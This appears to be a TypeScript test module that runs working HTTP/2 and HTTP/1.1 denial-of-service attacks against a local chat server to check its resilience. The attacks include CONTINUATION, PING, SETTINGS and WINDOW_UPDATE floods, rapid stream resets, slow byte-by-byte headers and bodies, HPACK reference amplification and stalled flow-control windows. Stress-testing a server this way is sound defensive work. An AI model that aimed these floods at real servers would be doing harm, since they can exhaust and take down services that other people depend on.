// Attacks by connections: sessions, frames and bytes.
import { once } from "node:events";
import { connect, type Socket } from "node:net";
import { setTimeout as delay } from "node:timers/promises";
import {
  dataFrame,
  frame,
  headersFrame,
  indexed,
  NEWEST,
  post,
  RawHttp2,
  rstFrame,
  windowUpdateFrame,
} from "../support/raw-http2.js";
import type { Attack, Target } from "./target.js";

const CONTINUATION = 9;
const SETTINGS = 4;
const PING = 6;
const END_HEADERS = 4;
const INITIAL_WINDOW_SIZE = 4;

const CHAT = "/parlance.v1.ChatService";
/** How long an attack is kept up once it is ready. */
const HOLD_MS = 3_000;
/** Longer than the server waits for headers, which is 10 s. */
const SLOW_HEADERS_MS = 13_000;
/** Hostile addresses, where connections are many. */
const STRANGERS = 4;

const streams = (count: number) => Array.from({ length: count }, (_, i) => 1 + 2 * i);

async function sessions(target: Target, count: number): Promise<RawHttp2[]> {
  const open: RawHttp2[] = [];
  for (let i = 0; i < count; i += 50)
    open.push(
      ...(await Promise.all(
        Array.from({ length: Math.min(50, count - i) }, (_, j) =>
          RawHttp2.open(target.port, target.address((i + j) % STRANGERS)),
        ),
      )),
    );
  return open;
}

const left = (peers: readonly RawHttp2[]) => peers.filter(({ over }) => !over).length;

async function openHeaders(target: Target, rpc: string, block: Buffer, later = block): Promise<object> {
  const peers = await sessions(target, 500);
  for (const peer of peers) {
    const [first, ...rest] = streams(100);
    peer.send(headersFrame(first!, block), ...rest.map((stream) => headersFrame(stream, later)));
    await delay(2);
  }
  await delay(HOLD_MS);
  const resets = peers.reduce((sum, one) => sum + one.resets.size, 0);
  return { rpc, sessionsLeft: left(peers), resets };
}

function byReference(rpc: string, references: number): [Buffer, Buffer] {
  const plain = post(`${CHAT}/${rpc}`);
  const repeated = Array<Buffer>(references - 1).fill(NEWEST);
  return [
    Buffer.concat([plain, indexed("x-long", "x".repeat(3_900)), ...repeated]),
    Buffer.concat([plain, NEWEST, ...repeated]),
  ];
}

async function flood(target: Target, bytes: Buffer): Promise<object> {
  const [peer] = (await sessions(target, 1)) as [RawHttp2];
  const since = performance.now();
  while (!peer.over && performance.now() - since < HOLD_MS) {
    if (!peer.socket.write(bytes))
      await Promise.race([
        once(peer.socket, "drain").catch(() => 0),
        once(peer.socket, "close").catch(() => 0),
        delay(200),
      ]);
    else await delay(1);
  }
  return { endedAfterMs: peer.over ? Math.round(performance.now() - since) : null };
}

const many = (count: number, bytes: Buffer) => Buffer.concat(Array.from({ length: count }, () => bytes));

/** `from`: whose connection it is. */
async function plainSocket(target: Target, from: number): Promise<Socket> {
  const socket = connect({
    host: "127.0.0.1",
    port: target.port,
    localAddress: target.address(from % STRANGERS),
  });
  socket.on("error", () => undefined);
  socket.resume();
  await Promise.race([once(socket, "connect"), once(socket, "close")]).catch(() => undefined);
  return socket;
}

/** So many, a hundred at a time; `opened` is called for each that is open. */
async function plainSockets(
  target: Target,
  count: number,
  opened: (socket: Socket) => void,
): Promise<Socket[]> {
  const open: Socket[] = [];
  for (let i = 0; i < count; i += 100) {
    const some = await Promise.all(Array.from({ length: 100 }, (_, j) => plainSocket(target, i + j)));
    for (const socket of some) if (!socket.destroyed) opened(socket);
    open.push(...some);
  }
  return open;
}

const connectionsLeft = (open: readonly Socket[]) =>
  open.filter(({ destroyed, readableEnded }) => !destroyed && !readableEnded).length;

const head = (rpc: string, length: number) =>
  `POST ${CHAT}/${rpc} HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ncontent-length: ${length}\r\n\r\n`;

async function shortBodies(target: Target, rpc: string): Promise<object> {
  const length = 61_000;
  const all = Buffer.concat([Buffer.from(head(rpc, length)), Buffer.alloc(length - 1, " ")]);
  const open = await plainSockets(target, 3_000, (socket) => void socket.write(all));
  await delay(HOLD_MS);
  return { rpc, connectionsLeft: connectionsLeft(open) };
}

/** Sends one byte after the other to each connection. */
async function trickle(open: readonly Socket[], bytes: string, forMs: number): Promise<void> {
  const since = performance.now();
  for (let i = 0; performance.now() - since < forMs && connectionsLeft(open) > 0; i++) {
    for (const socket of open) if (!socket.destroyed) socket.write(bytes[i % bytes.length]!);
    await delay(250);
  }
}

export const connectionAttacks: Record<string, Attack> = {
  "open HEADERS of an RPC for members": (target) =>
    openHeaders(target, "Broadcast", post(`${CHAT}/Broadcast`)),
  "open HEADERS of an open RPC": (target) => openHeaders(target, "Login", post(`${CHAT}/Login`)),
  "open HEADERS by 14 references": (target) => openHeaders(target, "Login", ...byReference("Login", 14)),
  "open HEADERS by 3 references": (target) => openHeaders(target, "Login", ...byReference("Login", 3)),
  async "open HEADERS with 600 bytes of DATA"(target) {
    const peers = await sessions(target, 500);
    const block = post(`${CHAT}/Login`);
    for (const peer of peers) {
      peer.send(
        ...streams(100).flatMap((stream) => [
          headersFrame(stream, block),
          dataFrame(stream, Buffer.alloc(600, " ")),
        ]),
      );
      await delay(2);
    }
    await delay(HOLD_MS);
    return { sessionsLeft: left(peers) };
  },
  async "1,000 resets on each of 50 connections"(target) {
    const block = post(`${CHAT}/Broadcast`);
    const pairs = streams(1_000).flatMap((stream) => [headersFrame(stream, block), rstFrame(stream)]);
    let over = 0;
    for (let i = 0; i < 50; i++) {
      const peer = await RawHttp2.open(target.port, target.address(i % STRANGERS));
      peer.send(...pairs);
      await delay(100);
      if (peer.over) over++;
      peer.close();
    }
    return { endedAtOnce: over };
  },
  "bodies short of a byte, for members": (target) => shortBodies(target, "Broadcast"),
  "bodies short of a byte, open": (target) => shortBodies(target, "Login"),
  async "headers of HTTP/1.1, byte by byte"(target) {
    const open = await plainSockets(
      target,
      500,
      (socket) => void socket.write("POST / HTTP/1.1\r\nhost: a\r\nx-slow: "),
    );
    await trickle(open, "slow", SLOW_HEADERS_MS);
    return { connectionsLeft: connectionsLeft(open) };
  },
  async "bodies of HTTP/1.1, byte by byte"(target) {
    const open = await plainSockets(target, 500, (socket) => void socket.write(head("Login", 8_000)));
    await trickle(open, " ", 2 * HOLD_MS);
    return { connectionsLeft: connectionsLeft(open) };
  },
  async "600 idle sessions"(target) {
    const peers = await sessions(target, 600);
    target.ready();
    await delay(HOLD_MS);
    return { sessionsLeft: left(peers) };
  },
  "WINDOW_UPDATE flood": (target) => flood(target, many(20_000, windowUpdateFrame(0, 1))),
  "PING flood": (target) => flood(target, many(10_000, frame(PING, 0, 0, Buffer.alloc(8)))),
  "SETTINGS flood": (target) => flood(target, many(10_000, frame(SETTINGS, 0, 0, Buffer.alloc(0)))),
  "CONTINUATION flood": (target) => {
    const begun = frame(1, 0, 1, post(`${CHAT}/Login`));
    const more = many(10_000, frame(CONTINUATION, 0, 1, Buffer.of(0x82)));
    const last = frame(CONTINUATION, END_HEADERS, 1, Buffer.alloc(0));
    return flood(target, Buffer.concat([begun, more, last]));
  },
  "empty DATA flood": (target) => {
    const begun = headersFrame(1, post(`${CHAT}/Login`));
    return flood(target, Buffer.concat([begun, many(20_000, dataFrame(1, Buffer.alloc(0)))]));
  },
  /** Responses for which there is no window, and one that opens byte by byte. */
  async "windows that stay closed"(target) {
    const setting = Buffer.alloc(6);
    setting.writeUInt16BE(INITIAL_WINDOW_SIZE);
    const block = post(`${CHAT}/Help`, { "content-type": "application/json" });
    const peers = await sessions(target, 60);
    for (const peer of peers) {
      peer.send(frame(SETTINGS, 0, 0, setting));
      peer.send(
        ...streams(100).flatMap((stream) => [
          headersFrame(stream, block),
          dataFrame(stream, Buffer.from("{}"), true),
        ]),
      );
      // Below what one address may ask for; this is about what the server keeps, not about its time.
      await delay(100);
    }
    const since = performance.now();
    while (performance.now() - since < HOLD_MS) {
      for (const peer of peers)
        if (!peer.over) peer.send(...streams(100).map((s) => windowUpdateFrame(s, 1)));
      await delay(500);
    }
    return { sessionsLeft: left(peers) };
  },
  /** RFC 9113, section 6.9.1: a window beyond 2^31 - 1 is an error of the stream, or of the connection. */
  async "windows that overflow"(target) {
    const peers = await sessions(target, 100);
    const largest = 2 ** 31 - 1;
    for (const peer of peers) peer.send(windowUpdateFrame(0, largest), windowUpdateFrame(0, largest));
    await delay(HOLD_MS);
    return { sessionsLeft: left(peers) };
  },
};
